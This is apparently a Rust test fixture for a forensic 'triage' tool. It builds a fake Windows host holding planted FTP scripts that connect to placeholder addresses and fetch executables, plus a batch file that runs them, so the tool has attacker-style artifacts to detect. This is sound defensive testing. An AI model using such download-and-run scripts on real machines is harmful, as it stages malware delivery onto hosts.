//! `triage`, and what bounds a run: time, memory, signals; what it leaves behind on a host that is in use.

mod bounds;
#[cfg(unix)]
mod quiet;
#[cfg(unix)]
mod signals;

use std::fs;
use std::path::Path;

/// A host with a script in a plausible place, one in another, and so many files besides.
fn host(root: &Path, files: usize) {
    let put = |path: &str, text: &str| {
        let path = root.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    };
    put("Windows/Temp/z.txt", "open 192.0.2.9\nuser z pw\nget z.exe\nbye\n");
    put("Windows/Temp/z.exe", "MZ");
    put("Apps/a.txt", "open 192.0.2.1\nuser a pw\nget a.exe\nbye\n");
    put("Apps/run.bat", "ftp -n -s:a.txt\r\n");
    for number in 0..files {
        let line = format!("a line of a log, {number}\n").repeat(40);
        put(&format!("Logs/d{:02}/f{number:05}.log", number % 50), &line);
    }
}
